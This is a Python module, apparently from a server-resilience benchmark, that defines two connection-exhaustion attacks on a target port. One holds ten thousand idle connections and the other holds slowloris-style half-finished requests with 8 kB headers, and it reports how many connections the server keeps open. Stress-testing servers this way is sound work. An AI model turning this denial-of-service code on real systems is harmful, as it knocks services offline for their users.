"""Too many connections: ten thousand that ask for nothing, and those that never finish asking."""

import time

from bench.attacks.attack import Attack, Came
from bench.attacks.clients import connections, is_open, most_descriptors, request, send
from bench.attacks.target import Target

WANTED = 10_000
SECONDS = 12.0
"""For so long the connections are kept, and opened again when the server closes them."""
HALF = request("/i/AAAAAAAAAAAAAAAAAAAAAA.gif", "X-Long: " + "y" * 8000)[:-4]
"""A request without its end."""


def _crowd(target: Target, sends: bytes, wanted: int, seconds: float) -> Came:
    opened, most = 0, 0
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        with connections(target.port, most_descriptors(wanted)) as wires:
            opened += len(wires)
            for wire in wires:
                send(wire, sends)
            time.sleep(2)
            most = max(most, sum(map(is_open, wires)))
    return Came(f"{opened} connections were opened; the server kept {most} of them at once")


def idle(target: Target, wanted: int = WANTED, seconds: float = SECONDS) -> Came:
    """Open connections, and ask for nothing."""
    return _crowd(target, b"", wanted, seconds)


def half_open(target: Target, wanted: int = WANTED, seconds: float = SECONDS) -> Came:
    """Open connections, and never finish a request."""
    return _crowd(target, HALF, wanted, seconds)


ATTACKS = [
    Attack("connections", "ten thousand connections that ask for nothing", idle),
    Attack("half-open", "ten thousand connections, each with half a request of 8 kB", half_open),
]
